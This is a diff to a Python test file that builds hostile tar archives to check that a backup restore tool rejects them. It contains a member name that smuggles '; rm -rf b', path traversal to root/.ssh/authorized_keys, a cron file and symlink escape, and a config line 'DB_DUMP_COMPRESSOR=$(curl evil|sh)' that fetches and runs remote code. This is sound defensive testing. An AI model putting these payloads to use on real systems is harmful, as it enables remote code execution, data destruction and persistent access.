@@ -371,7 +371,15 @@ hostile("pipe", member("./pipe", kind=tarfile.FIFOTYPE))
 hostile("member twice", member("./config", 3))
 hostile("name with control characters", member("./a\n; rm -rf b", 3))
 hostile("name of 100 kB", member("n" * 100_000, 3))
-hostile("more members than any backup", member("./many", 0, tarfile.DIRTYPE), 3000)
+hostile("name longer than any path", member("n" * 5000, 3))
+hostile("more members than any backup", member("./many", 0, tarfile.DIRTYPE), 22_100)
+
+
+@defect("more files than engine-backup makes")
+def _(folder, bases):
+    return draft(folder, bases).pack_by_hand(*(member(f"./extra/{n}") for n in range(1200))), {}
+
+
 inner("files: member that climbs out (../)", member("etc/../../../root/.ssh/authorized_keys", 3))
 inner("files: member with an absolute name", member("/etc/cron.d/x", 3))
 inner("files: device", member("dev/sda", kind=tarfile.BLKTYPE))
@@ -381,6 +389,8 @@ inner(
     member("etc/away/cron.d/x", 3),
     member("etc/away", kind=tarfile.SYMTYPE, target="/"),
 )
+inner("files: 20,001 symbolic links", member("etc/last"),
+      *(member(f"l{n}", kind=tarfile.SYMTYPE, target="x") for n in range(20_001)))  # fmt: skip
 inner("files: 3 MB of configuration", member("etc/ovirt-engine/engine.conf.d/99-big.conf", 3_000_000))
 before_hashing("shell in config", swap("config", b"DB_DUMP_COMPRESSOR=", b"DB_DUMP_COMPRESSOR=$(curl evil|sh)"))
 before_hashing("shell in config, on a line of its own", lambda one: one.members.update(
